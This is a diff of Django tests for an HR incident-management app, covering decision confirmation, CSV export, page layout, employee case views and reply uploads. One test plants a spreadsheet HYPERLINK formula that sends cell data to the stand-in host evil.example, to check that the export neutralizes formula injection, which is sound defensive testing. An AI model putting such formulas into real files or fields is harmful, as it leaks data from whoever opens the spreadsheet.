@@ -1,3 +1,5 @@
+import csv
+import io
 import json
 from datetime import timedelta
 
@@ -87,8 +89,13 @@ def test_deciding_against_the_suggestion_on_the_page_asks_for_a_justification(cl
     assert "Write why" in refused.content.decode()
     incident.refresh_from_db()
     assert not incident.outcome
-    client.post(url, {"decide-outcome": "reminder",
-                      "decide-justification": "Deleted at once and apologised to the customer."})
+    data = {"decide-outcome": "reminder",
+            "decide-justification": "Deleted at once and apologised to the customer."}
+    confirm = client.post(url, data)
+    assert confirm.status_code == 200 and "Confirm the decision" in confirm.content.decode()
+    incident.refresh_from_db()
+    assert not incident.outcome  # the confirmation step records nothing
+    client.post(url, {**data, "confirmed": "1"})
     incident.refresh_from_db()
     assert (incident.outcome, incident.deviated) == ("reminder", True)
 
@@ -229,3 +236,96 @@ def test_retention_purges_closed_evidence_but_not_under_legal_hold(
     assert Evidence.objects.filter(incident=kept, purged_at__isnull=True).exists()
     entry = AuditEntry.objects.get(action="incident.evidence_purged")
     assert entry.target_id == str(gone.pk) and entry.data["items"] == 2
+
+
+def test_the_consistency_export_neutralizes_formulas_from_hr_imports(
+        client_for, hr, org, employee, matrix):
+    from chorus.people.models import Department
+
+    department = employee.person.department
+    Department.objects.filter(pk=department.pk).update(name="=1+1")
+    manager = employee.person.manager
+    manager.full_name = '=HYPERLINK("http://evil.example/?x="&A1;"click")'
+    manager.save(update_fields=["full_name"])
+    decided = ready_for_decision(make_incident(org=org, hr=hr, subject=employee.person), hr=hr)
+    S.incident_decide(incident=decided, actor=hr, outcome="written_warning")
+
+    export = client_for(hr).get(reverse("incidents:consistency-csv"))
+
+    rows = list(csv.reader(io.StringIO(export.content.decode(), newline="")))
+    assert rows[1][4:6] == ["'=1+1", "'" + manager.full_name]
+def test_the_consistency_category_filter_shows_human_labels(client_for, hr, org, employee, matrix):
+    one = ready_for_decision(make_incident(org=org, hr=hr, subject=employee.person,
+                                           category="competitor_negative"), hr=hr)
+    S.incident_decide(incident=one, actor=hr, outcome=one.suggested_response)
+    page = client_for(hr).get(reverse("incidents:consistency")).content.decode()
+    assert '<option value="competitor_negative" >Negative about a competitor</option>' in page
+
+
+def test_the_incident_page_lists_steps_in_gate_order_with_links(client_for, hr, incident):
+    page = client_for(hr).get(reverse("incidents:incident-detail", args=[incident.pk])).content.decode()
+    order = [page.index(f'id="{step}" data-step') for step in
+             ("facts", "screen", "response", "assess", "review", "decide")]
+    assert order == sorted(order)
+    assert 'href="#facts"><strong>Facts established' in page
+    assert '<details class="card step" id="facts" data-step open>' in page  # not done: open
+
+
+def test_a_finished_step_is_collapsed(client_for, hr, incident):
+    ready_for_decision(incident, hr=hr)
+    page = client_for(hr).get(reverse("incidents:incident-detail", args=[incident.pk])).content.decode()
+    assert '<details class="card step" id="facts" data-step>' in page
+    assert '<details class="card step card--accent" id="decide" data-step open>' in page
+
+
+def test_my_cases_lists_only_the_employees_notified_cases_in_plain_words(
+        client_for, hr, employee, employee2, incident):
+    client = client_for(employee)
+    assert "You have no cases" in client.get(reverse("incidents:mine")).content.decode()
+    S.incident_notify(incident=incident, actor=hr, notice_text="x")
+    page = client.get(reverse("incidents:mine")).content.decode()
+    assert incident.title in page and "Waiting for your side" in page
+    assert incident.title not in client_for(employee2).get(reverse("incidents:mine")).content.decode()
+    nav = client.get("/").content.decode()
+    assert 'href="/incidents/mine/"' in nav and ">My cases<" in nav
+
+
+def test_the_employee_sees_no_hashes_or_matrix_columns_unless_they_open_the_details(
+        client_for, hr, employee, incident):
+    S.incident_notify(incident=incident, actor=hr, notice_text="x")
+    S.evidence_add(incident=incident, actor=hr, text="the post", url="", network="", screenshot=None,
+                   note="")
+    page = client_for(employee).get(reverse("incidents:incident-respond", args=[incident.pk]))
+    body = page.content.decode()
+    assert "<summary>Technical details</summary>" in body
+    assert '<span class="muted">SHA-256</span>' not in body
+    listing = client_for(employee).get(reverse("incidents:incident-list")).content.decode()
+    assert "Suggested → decided" not in listing
+
+
+def test_the_employee_attaches_images_and_asks_for_a_meeting_with_a_representative(
+        client_for, hr, employee, outsider, incident):
+    S.incident_notify(incident=incident, actor=hr, notice_text="x")
+    url = reverse("incidents:incident-respond", args=[incident.pk])
+    client = client_for(employee)
+    before = incident.evidence.count()
+    bad = client.post(url, {"response-text": "My side.", "response-attachments": SimpleUploadedFile(
+        "x.png", b"MZ not an image")})
+    assert bad.status_code == 422 and "is not a PNG" in bad.content.decode()
+    incident.refresh_from_db()
+    assert not incident.responded_at and incident.evidence.count() == before  # nothing saved
+
+    client.post(url, {"response-text": "My side.", "response-meeting_requested": "on",
+                      "response-representative": "Sam Rivera (works council)",
+                      "response-attachments": SimpleUploadedFile("mine.png", demo_png(),
+                                                        content_type="image/png")})
+    incident.refresh_from_db()
+    assert incident.response_meeting_requested
+    assert incident.response_representative == "Sam Rivera (works council)"
+    evidence = incident.evidence.get(added_by=employee)
+    assert evidence.kind == "screenshot" and len(evidence.sha256) == 64
+    file_url = reverse("incidents:evidence-file", args=[incident.pk, evidence.pk])
+    assert client_for(hr).get(file_url).status_code == 200
+    assert client_for(outsider).get(file_url).status_code == 404
+    hr_page = client_for(hr).get(reverse("incidents:incident-detail", args=[incident.pk]))
+    assert "They asked for a meeting" in hr_page.content.decode()
